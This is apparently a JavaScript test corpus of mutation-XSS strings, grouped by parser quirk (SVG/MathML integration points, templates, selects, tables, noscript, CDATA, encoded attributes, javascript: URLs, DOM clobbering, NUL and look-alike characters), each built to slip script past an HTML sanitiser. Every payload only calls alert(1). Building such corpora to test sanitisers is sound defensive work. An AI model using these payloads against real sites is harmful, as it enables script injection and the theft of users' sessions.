/**
 * Markup that means one thing to a sanitiser and another to the parser that reads its output: mutation XSS,
 * by what causes the difference. `alert(1)` is what would run.
 */

const payload = "<img src=x onerror=alert(1)>"
const hidden = `<a title="</style></title></textarea></noscript></template></xmp></script>--&gt;]]&gt;${payload}">`

const foreignRawText = [
  `<svg><style>${hidden}`,
  `<svg><style><img title="</style>${payload}">`,
  `<svg><style>&lt;/style>${payload}`,
  `<svg><title><style>${payload}</style></title>`,
  `<svg><desc><style>${hidden}</style></desc>`,
  `<svg><foreignObject><style>${hidden}</style></foreignObject>`,
  `<svg><p><style><g title="</style>${payload}">`,
  `<svg></p><style><g title="</style>${payload}">`,
  `<svg></br><style><g title="</style>${payload}">`,
  `<svg><script>&lt;/script>${payload}</script>`,
  `<svg><textarea><g title="</textarea>${payload}">`,
  `<svg><xmp><g title="</xmp>${payload}">`,
  `<svg><noscript><g title="</noscript>${payload}">`,
  `<svg><iframe><g title="</iframe>${payload}">`,
  `<svg><font color=x><style><g title="</style>${payload}">`,
  `<math><style><g title="</style>${payload}">`,
  `<math><mi><style><g title="</style>${payload}">`,
  `<math><xmp>${payload}</xmp></math>`
]

const integrationPoints = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${payload}">`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)>">`,
  `<math><mtext><mglyph><style><!--</style><img title="--&gt;${payload}">`,
  `<math><mtext><malignmark><style><!--</style><img title="--&gt;${payload}">`,
  `<math><mi><table><malignmark><xmp><!--</xmp><img title="--&gt;${payload}">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${payload}"></style></h1>`,
  `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>${payload}">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style>${payload}">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style>${payload}">`,
  `<math><annotation-xml encoding="application/xhtml+xml"><svg><style><a title="</style>${payload}">`,
  `<math><annotation-xml><svg><foreignObject><style><a title="</style>${payload}">`,
  `<math><annotation-xml encoding="text/html"><p></math>${payload}`,
  `<svg><annotation-xml encoding="text/html"><style><a title="</style>${payload}">`,
  `<svg><desc><math><mtext><table><mglyph><style>${hidden}`,
  `<svg><title><svg><style>${hidden}</style></svg></title></svg>`,
  `<svg><foreignObject><math><mtext><svg><style>${hidden}`,
  `<math><mo><svg><mglyph><p>${hidden}`,
  `<math><mtext><p><math><mglyph>${hidden}`,
  `<svg><a><foreignobject><a><table><a></table><style>${hidden}</style></svg>`
]

const templates = [
  `<template><style></template>${hidden}</style>`,
  `<template><svg><style></template>${hidden}`,
  `<template><template>${payload}</template>`,
  `<template><tr><td><template></td></tr></template>${payload}`,
  `<svg><template><style>${hidden}`,
  `<math><mtext><template><mglyph><style>${hidden}`,
  `<table><template><td>${payload}`,
  `<select><template>${payload}</template></select>`,
  `<div><template shadowrootmode=open>${payload}</template></div>`,
  `<template><form><input></template></form>${payload}`,
  `<template><col><b></template>${payload}`
]

const selects = [
  `<select><select><style></select>${hidden}</style>`,
  `<select><option><style></option></select>${hidden}</style>`,
  `<select><svg><style></select>${hidden}</style>`,
  `<select><math><mtext><option><style></select>${hidden}`,
  `<select><script></select>${payload}</script>`,
  `<select><table><tr><td></select>${payload}`,
  `<table><select><tr><td>${payload}</select>`,
  `<select><noscript></select>${hidden}</noscript>`,
  `<select><textarea></select>${hidden}</textarea>`,
  `<select><iframe></select>${payload}</iframe>`,
  `<select><plaintext></select>${payload}`,
  `<select><keygen><img src=x onerror=alert(1)></select>`,
  `<select><optgroup><option><p></optgroup>${payload}</select>`
]

const tables = [
  `<table><style></table>${hidden}</style>`,
  `<table><tr><svg><style></table>${hidden}`,
  `<table><math><mtext><tr><mglyph><style>${hidden}`,
  `<table><a href=1><tr><a href=2><td><a href=3>${payload}`,
  `<a href=1><table><a href=2><table><a href=3><td>${payload}`,
  `<table>${payload}<caption><table>${payload}`,
  `<table><colgroup>${payload}<col><b>${payload}`,
  `<table><tbody><p><tr>${payload}<td><p></table>${payload}`,
  `<table><input type=hidden onfocus=alert(1) autofocus><form><tr></form>${payload}`,
  `<p><table><tr><p></table></p>${payload}`,
  `<svg><desc><table><svg><desc><td><style>${hidden}`,
  `<table><tr><td><svg></table><style>${hidden}`
]

const forms = [
  `<form><div></form><form>${payload}`,
  `<form id=a><form id=b><input name=parentNode><button form=a formaction=javascript:alert(1)>`,
  `<form><table><form><tr></form><form>${payload}`,
  `<div><form></div><form><style>${hidden}`,
  `<form action="javascript:alert(1)"><math><mtext></form><form><input type=submit>`,
  `<form><p></form><form></p>${payload}</form>`
]

const scriptingFlag = [
  `<noscript><style></noscript>${hidden}</style>`,
  `<noscript><a title="</noscript>${payload}"></noscript>`,
  `<noscript><!--</noscript>${payload}-->`,
  `<noscript><xmp></noscript>${hidden}</xmp>`,
  `<noscript><textarea></noscript>${hidden}</textarea>`,
  `<p title="<noscript>"></noscript>${payload}`,
  `<div><noscript><div></noscript></div>${payload}`,
  `<svg><noscript></svg><a title="</noscript>${payload}">`,
  `<table><noscript></table>${hidden}</noscript>`
]

const comments = [
  `<!--><style></style>${hidden}-->`,
  `<!---><a title="-->${payload}">`,
  `<!-- --!><a title="-->${payload}">`,
  `<!-- <!-- --> ${payload} -->`,
  `<!--<img title="-->${payload}">-->`,
  `<!-->${payload}<!---->`,
  `<!- ${payload} ->`,
  `<!${payload}>`,
  `</ ${payload}>`,
  `<?xml ${payload}?>`,
  `<?${hidden}?>`,
  `<![CDATA[${hidden}]]>`,
  `<svg><![CDATA[><a title="]]>${payload}">`,
  `<svg><![CDATA[]]]]><![CDATA[>${payload}]]>`,
  `<math><![CDATA[</math>${payload}]]></math>`,
  `<svg><desc><![CDATA[</desc></svg>${payload}]]></desc></svg>`,
  `<svg><!--</svg><a title="-->${payload}">`,
  `<svg></svg><![CDATA[><a title="]]>${payload}">`
]

const attributes = [
  `<code class="language-x&quot;><img src=x onerror=alert(1)>">x</code>`,
  `<pre><code class=" language-a\tlanguage-b\nother ">x</pre></code><p>y`,
  `<pre class=language-<x>><code class=language-html>&lt;script&gt;</code>`,
  `<ol start="&#x31;" start=2 reversed="><img src=x onerror=alert(1)>"><li value=3>x`,
  `<img src=x alt="\`\`onerror=alert(1)">`,
  `<img src=x alt='\`' title='\`onerror=alert(1)'>`,
  `<p title="&quot;><img src=x onerror=alert(1)>">x</p>`,
  `<p title='&#34;&#62;&#60;img src=x onerror=alert(1)&#62;'>x</p>`,
  `<p title=&#x22;&gt;${payload}>x</p>`,
  `<p title="&amp;quot;&amp;gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;">x</p>`,
  `<p title="&lt&gt&quot&#x00;&#x80;&#xD800;&#x110000;&notit;&ampx">x</p>`,
  `<p title="\u00a0&nbsp&nbsp;">x</p>`,
  `<a href="java&#115;cript:alert(1)" title=x>x</a>`,
  `<a href="java&#x0A;script&#58alert(1)" title=x>x</a>`,
  `<a href="&#x1;&#x20;javascript&colon;alert(1)" title=x>x</a>`,
  `<a href="https:javascript:alert(1)">x</a>`,
  `<a href="http&#58;//x"onclick="alert(1)">x</a>`,
  `<a href=x xml:base="javascript:alert(1)//" xlink:href="javascript:alert(1)">x</a>`,
  `<a/href="x"/onclick=alert(1)/title=y>x</a>`,
  `<p title=a title="><script>alert(1)</script>" TITLE=b>x</p>`,
  `<p data-a="</p>${payload}" data-="x" data-A="y" data-é="z" data-a:b="c" data-a.b="d">x</p>`,
  `<p data-"=x data-'=y data-\`=z data-<=w>x</p>`,
  `<p dir="ltr onclick=alert(1)" dir=rtl lang="x\u2028y">x</p>`
]

const clobbering = [
  `<img name=body src=x><img id=cookie name=cookie src=y>`,
  `<a id=defaultView name=x href=z>x</a><a id=defaultView href=cid:y>y</a>`,
  `<form id=attributes name=attributes><input name=attributes><input id=parentNode></form>`,
  `<p id=__proto__ name=constructor class=toString>x</p>`,
  `<object id=x name=y></object><embed name=getElementById><iframe name=alert></iframe>`,
  `<img usemap=#m src=x><map name=m><area href=x id=y></map>`,
  `<p is=x-y slot=z part=w contenteditable nonce=1 itemid=2 for=3>x</p>`
]

const nesting = [
  `${"<a><b><i><u>".repeat(30)}${payload}${"</a></b></i></u>".repeat(30)}`,
  `${"<font color=red><p>".repeat(30)}${payload}`,
  `${"<svg><desc>".repeat(120)}<style>${hidden}`,
  `${"<math><mtext>".repeat(120)}<mglyph><style>${hidden}`,
  `${"<div>".repeat(120)}<svg><style>${hidden}`,
  `${"<b>".repeat(110)}<table><tr><td><p>${"</b>".repeat(110)}${payload}`,
  `${"<div>".repeat(99)}<table><tr><td><pre>\n\n<p>${payload}`,
  `${"<ul><li><p>".repeat(40)}<table><a href=x><tr><a href=y>${payload}`,
  `${"<button><p>".repeat(120)}${payload}`,
  `${"<a href=x><table>".repeat(20)}${payload}`,
  `${"<nobr><applet>".repeat(30)}${payload}`
]

const text = [
  `<\u0000script>alert(1)</script>`,
  `<scr\u0000ipt>alert(1)</script>`,
  `<img\u0000 src=x onerror=alert(1)>`,
  `<p title\u0000=x on\u0000click=alert(1)>x</p>`,
  `<svg>\u0000<style>\u0000${hidden}`,
  `<ſcript>alert(1)</ſcript><ıframe><İmg>`,
  `<p \u212aey=x data-\u212a=y>x</p><lin\u212a rel=x>`,
  `＜img src=x onerror=alert(1)＞`,
  `<img\u00a0src=x\u2003onerror=alert(1)>`,
  `<img\u000bsrc=x onerror=alert(1)>`,
  `<p title="\ud800">\udc00<\ud83d\udca9 onclick=alert(1)>`,
  `\ufeff<style>\ufeff${hidden}`,
  `<pre>\r\n\r\n${payload}</pre><textarea>\r\n${hidden}</textarea>`,
  `<xmp>${hidden}</xmp><listing>\n${hidden}</listing>`,
  `<plaintext></plaintext>${hidden}`,
  `&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
  `<title></title${hidden}`,
  `<textarea></textarea${payload}>`
]

export const mutationCorpus = {
  "raw text in foreign content": foreignRawText,
  "integration points": integrationPoints,
  templates,
  selects,
  tables,
  forms,
  "the scripting flag": scriptingFlag,
  "comments and CDATA": comments,
  attributes,
  "DOM clobbering": clobbering,
  nesting,
  "NUL and look-alikes": text
}
